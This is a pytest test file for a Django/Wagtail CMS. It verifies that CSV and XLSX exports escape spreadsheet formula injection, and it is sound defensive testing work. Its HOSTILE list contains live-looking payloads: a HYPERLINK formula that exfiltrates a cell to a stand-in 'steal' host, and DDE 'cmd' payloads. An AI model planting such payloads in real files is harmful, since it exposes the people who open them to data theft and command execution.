"""Formula injection in every export: text a spreadsheet would run (``=HYPERLINK(…)``,
``+cmd|…``, ``@SUM(…)``, and the tab / carriage-return variants) comes out with a leading
apostrophe, in csv and xlsx, from our own exports and from Wagtail's listing exports."""

from __future__ import annotations

import csv
import datetime
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.admin.views.mixins import SpreadsheetExportMixin
from wagtail.log_actions import log

from cms import spreadsheets
from cms.people.models import OrgUnit
from exams.formats.base import ExportQuestion, ParsedOption
from exams.formats.spreadsheet import export_spreadsheet, parse_spreadsheet
from learning.models import StudyHourEntry, StudyKind
from tests.factories import UserFactory
from tests.factories import login_with_mfa as staff_login

HOSTILE = [
    '=HYPERLINK("http://x.example/steal?d="&A1,"点击查看")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def _xlsx_cells(data: bytes) -> list:
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]  # no formula anywhere
    return [c.value for c in cells]


def _assert_escaped(cells: list, texts: list[str]) -> None:
    for text in texts:
        assert "'" + text in cells, text
        assert text not in cells, text


def test_safe_cell_escapes_every_formula_prefix_and_only_text():
    for text in HOSTILE:
        assert spreadsheets.safe_cell(text) == "'" + text
        assert spreadsheets.unescape_cell(spreadsheets.safe_cell(text)) == text
    assert spreadsheets.safe_cell(-5) == -5
    assert spreadsheets.safe_cell("法条 -5") == "法条 -5"
    assert spreadsheets.unescape_cell("'普通文本") == "'普通文本"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_question_bank_export_escapes_and_reimports_the_same_text(fmt):
    questions = [
        ExportQuestion(
            kind="single",
            stem=stem,
            options=[ParsedOption("@SUM(1)", True), ParsedOption("-1", False)],
            answer_true=None,
            explanation="=1+1",
            difficulty=2,
            topic="宪法",
            citations="宪法第一条",
        )
        for stem in HOSTILE[:4]
    ]
    data = export_spreadsheet(questions, fmt=fmt)
    cells = _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)
    _assert_escaped(cells, [*HOSTILE[:4], "@SUM(1)", "-1", "=1+1"])
    # Exported, then imported again: the escape is taken off, the question is unchanged.
    parsed = parse_spreadsheet(data, f"bank.{fmt}")
    assert not parsed.errors
    assert [q.stem for q in parsed.questions] == HOSTILE[:4]
    assert parsed.questions[0].options[0].text == "@SUM(1)"
    assert parsed.questions[0].explanation == "=1+1"


def test_own_exports_escape(tmp_path):
    rows = [[text, 1, datetime.date(2026, 3, 1)] for text in HOSTILE]
    _assert_escaped(_csv_cells(spreadsheets.csv_bytes(["a", "b", "c"], rows)), HOSTILE)
    xlsx_cells = _xlsx_cells(spreadsheets.workbook_bytes("t", ["a", "b", "c"], rows))
    # openpyxl reads a stored "\r" back as "\n" (XML line-end normalisation); the rest exact.
    _assert_escaped(xlsx_cells, HOSTILE[:5])


def test_no_wagtail_export_view_goes_around_the_escape():
    """The escape sits on the mixin every Wagtail export view uses; no view below it (ours or
    Wagtail's, reports and form submissions included) overrides the cell-writing methods."""
    from django.urls import get_resolver

    get_resolver().url_patterns  # import every URL module, and so every view class  # noqa: B018
    assert SpreadsheetExportMixin.preprocess_field_value.escapes_formulas
    writers = {"preprocess_field_value", "write_csv_row", "generate_xlsx_row"}
    pending, seen = [SpreadsheetExportMixin], set()
    while pending:
        cls = pending.pop()
        for sub in cls.__subclasses__():
            if sub not in seen:
                seen.add(sub)
                pending.append(sub)
                assert not writers & set(vars(sub)), sub
    assert len(seen) > 10  # the index views of the viewsets, users, reports …


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_wagtail_listing_exports_escape(client, fmt):
    """The study-hour ledger (a ModelViewSet's built-in export) and the site history report."""
    unit = OrgUnit.add_root(name=HOSTILE[0], code="330100")
    person = UserFactory(name=HOSTILE[1], org_unit=unit)
    for number, text in enumerate(HOSTILE):
        StudyHourEntry.objects.create(
            user=person,
            year=2026,
            hours=2,
            kind=StudyKind.OFFLINE,
            title=text,
            source=f"{HOSTILE[2]}:{number}",
            date=datetime.date(2026, 3, 1),
        )
    superuser = UserFactory(is_superuser=True, is_staff=True, org_unit=unit)
    log(instance=unit, action="wagtail.edit", user=superuser)
    staff_login(client, superuser)

    def export(url: str) -> list:
        response = client.get(url, {"export": fmt})
        assert response.status_code == 200, url
        data = b"".join(response.streaming_content) if response.streaming else response.content
        return _csv_cells(data) if fmt == "csv" else _xlsx_cells(data)

    ledger = export(reverse("learning_entries:index"))
    titles = HOSTILE if fmt == "csv" else HOSTILE[:5]  # see test_own_exports_escape
    _assert_escaped(ledger, titles)
    assert "'" + str(person) in ledger
    assert "'" + f"{HOSTILE[2]}:0" in ledger
    history = export(reverse("wagtailadmin_reports:site_history"))
    assert "'" + HOSTILE[0] in history
